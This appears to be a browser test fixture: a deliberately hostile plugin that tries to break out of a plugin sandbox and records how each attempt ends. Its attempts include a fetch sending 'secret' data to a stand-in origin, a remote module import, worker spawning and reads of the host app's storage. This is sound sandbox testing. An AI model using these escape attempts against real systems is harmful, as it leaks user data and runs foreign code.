// A hostile third-party plugin: it tries to reach another origin (option `target`), memscope's storage, the page and
// new workers, and yields one row per attempt saying how it ended (test/browser/e2e-third-party-plugins.test.ts).
// Every attempt should fail; "succeeded" in a row means the plugin sandbox let it through.

/** Every Content-Security-Policy violation this worker reports, as "directive URL". */
const violations = [];
self.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));

/** How an attempt ended: "succeeded: …" or the error's name and message. */
async function attempt(work) {
  try {
    return `succeeded: ${await work()}`;
  } catch (e) {
    return `${e?.name ?? 'Error'}: ${e?.message ?? String(e)}`;
  }
}

/** Resolves when the object fires `ok`, rejects (with `what`) when it fires `bad` or neither within 3 s. */
const settle = (emitter, ok, bad, what) =>
  new Promise((resolve, reject) => {
    emitter.addEventListener(ok, () => resolve(ok));
    emitter.addEventListener(bad, () => reject(Object.assign(new Error(what), { name: 'ErrorEvent' })));
    setTimeout(() => reject(new Error(`neither ${ok} nor ${bad} within 3 s`)), 3000);
  });

/** What the plugin tries, each against `target` where it goes to the network. */
const attempts = (target) => ({
  'fetch another origin': () => fetch(`${target}/off-origin/fetch?data=secret`).then((r) => r.status),
  'WebSocket to another origin': () =>
    settle(new WebSocket(`${target.replace(/^http/, 'ws')}/off-origin/socket`), 'open', 'error', 'the connection failed'),
  'import from another origin': () => import(`${target}/off-origin/module.mjs`).then(() => 'imported'),
  "open memscope's IndexedDB": () => settle(indexedDB.open('memscope-symbols'), 'success', 'error', 'the database did not open'),
  'read Cache Storage': () => caches.keys().then((keys) => keys.join(', ')),
  'read the origin private file system': () => navigator.storage.getDirectory().then((d) => d.kind),
  'start a worker': () => (new Worker(`data:text/javascript,postMessage(1)`), 'started'),
  'restore Worker': () => {
    Object.defineProperty(self, 'Worker', { value: function Worker() {} });
    return typeof self.Worker;
  },
  'post to the page': () => self.postMessage('hello from a plugin') ?? 'posted',
  'evaluate a string': () => (0, eval)('"evaluated"'),
  'touch the DOM': () => document.title,
});

export default {
  name: 'test.hostile',
  version: '1.0.0',
  description: 'Tries what a plugin must not do; one row per attempt.',
  requirements: [],
  columns: [
    { name: 'Attempt', type: 'str' },
    { name: 'Outcome', type: 'str' },
  ],
  options: [{ name: 'target', type: 'str', default: 'https://example.invalid', description: 'The other origin to send data to' }],
  tree: false,
  async *run(ctx) {
    const target = ctx.options['target'] ?? 'https://example.invalid';
    for (const [name, work] of Object.entries(attempts(target))) yield { depth: 0, values: [name, await attempt(work)] };
    // Violation reports are queued as tasks: let them arrive.
    await new Promise((resolve) => setTimeout(resolve, 100));
    yield { depth: 0, values: ['CSP violations reported', violations.join('; ')] };
  },
};
